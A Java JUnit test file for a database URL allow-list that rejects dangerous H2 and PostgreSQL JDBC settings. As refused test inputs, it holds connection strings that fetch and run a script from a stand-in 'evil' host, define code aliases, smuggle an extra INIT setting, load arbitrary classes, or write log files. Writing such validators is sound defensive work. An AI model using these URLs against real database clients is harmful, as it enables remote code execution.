package fpimport.job;

import fpimport.failure.FpImportException;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Issue 17, item 1: an allow-list of harmless job repository URL settings. */
class DatabaseUrlTest {

	@Test
	void harmlessUrlsPass() {
		for (String url : new String[] { "jdbc:h2:file:/srv/jobs", "jdbc:h2:file:~/fp;AUTO_SERVER=TRUE;WRITE_DELAY=0",
				"jdbc:h2:mem:x;DB_CLOSE_DELAY=-1", "jdbc:h2:~/fp;MODE=PostgreSQL;IFEXISTS=TRUE",
				"jdbc:h2:tcp://localhost:9092/~/fp;USER=sa;PASSWORD=x", "jdbc:h2:C:/data/fp",
				"jdbc:postgresql://db.example.com:5432/fpimport?user=fpimport&password=x&sslmode=require" }) {
			assertThatCode(() -> DatabaseUrl.check(url)).as(url).doesNotThrowAnyException();
			assertThatCode(() -> DatabaseUrl.refuseRemoteServer(url)).as(url).doesNotThrowAnyException();
		}
	}

	@Test
	void settingsThatRunCodeLoadClassesOrWriteFilesAreRefused() {
		for (String url : new String[] { "jdbc:h2:file:/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
				"jdbc:h2:file:/x;init=CREATE ALIAS X AS 'void x() {}'", "jdbc:h2:file:/x;TRACE_LEVEL_FILE=3",
				"jdbc:h2:file:/x;TRACE_LEVEL_SYSTEM_OUT=3", "jdbc:h2:file:/x;AUTHENTICATOR=TRUE",
				"jdbc:h2:file:/x;JAVA_OBJECT_SERIALIZER='com.Evil'", "jdbc:h2:file:/x;WRITE_DELAY=0\\;INIT=x",
				"jdbc:h2:zip:/x.zip!/db", "jdbc:h2:split:/x", "jdbc:postgresql://h/db?loggerFile=/tmp/x",
				"jdbc:postgresql://h/db?socketFactory=x.Y&socketFactoryArg=http://evil",
				"jdbc:postgresql://h/db?authenticationPluginClassName=x.Y", "jdbc:sqlite:/tmp/x" }) {
			assertThatThrownBy(() -> DatabaseUrl.check(url)).as(url)
				.isInstanceOf(FpImportException.class)
				.hasMessageContaining("is refused");
		}
	}

	@Test
	void anH2ServerOffTheLoopbackIsRefused() {
		for (String url : new String[] { "jdbc:h2:tcp://10.0.0.1/~/fp", "jdbc:h2:ssl://db.example.com:9092/fp",
				"jdbc:h2:tcp://localhost,evil.example.com/~/fp" }) {
			assertThatThrownBy(() -> DatabaseUrl.refuseRemoteServer(url)).as(url)
				.isInstanceOf(FpImportException.class)
				.hasMessageContaining("not on this machine");
		}
	}

}
